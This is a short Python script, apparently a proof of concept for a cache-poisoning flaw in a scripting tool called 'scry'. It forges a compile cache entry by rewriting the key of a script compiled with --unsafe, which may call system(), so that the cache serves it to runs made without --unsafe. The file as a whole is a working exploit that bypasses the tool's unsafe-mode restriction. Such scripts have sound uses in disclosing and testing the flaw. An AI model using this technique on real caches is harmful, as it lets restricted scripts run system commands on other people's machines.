#!/usr/bin/env python3
"""Plants a compile cache entry, as an attacker who can write to the cache would: takes the entry
of a script compiled with --unsafe (so that its program may call system()), rewrites the key it
holds into the key of the same script run without --unsafe, and writes it under that key's name.
The key is a CBOR text string; "unsafe=1" becomes "unsafe=0" (same length: no length changes).
Usage: plant_cache_entry.py CACHE_DIR ENTRY_FILE"""
import os
import sys

def fnv1a(data: bytes) -> int:
    h = 1469598103934665603
    for c in data:
        h = ((h ^ c) * 1099511628211) & 0xFFFFFFFFFFFFFFFF
    return h

cache_dir, entry = sys.argv[1], sys.argv[2]
data = open(entry, "rb").read()
start = data.index(b"scry ")              # the key's text: "scry VERSION ...", after its CBOR head
head = data[start - 5:start]
if head[0] == 0x7A:                       # text string, 4-byte length
    size = int.from_bytes(head[1:5], "big")
elif head[2] == 0x79:                     # 2-byte length
    size = int.from_bytes(head[3:5], "big")
else:
    sys.exit("unexpected CBOR head before the key")
key = data[start:start + size]
assert b"unsafe=1 " in key, key[:200]
new_key = key.replace(b"unsafe=1 ", b"unsafe=0 ", 1)
planted = data[:start] + new_key + data[start + size:]
path = os.path.join(cache_dir, "%016x.entry" % fnv1a(new_key))
with open(path, "wb") as f:
    f.write(planted)
os.chmod(path, 0o600)
print(path)
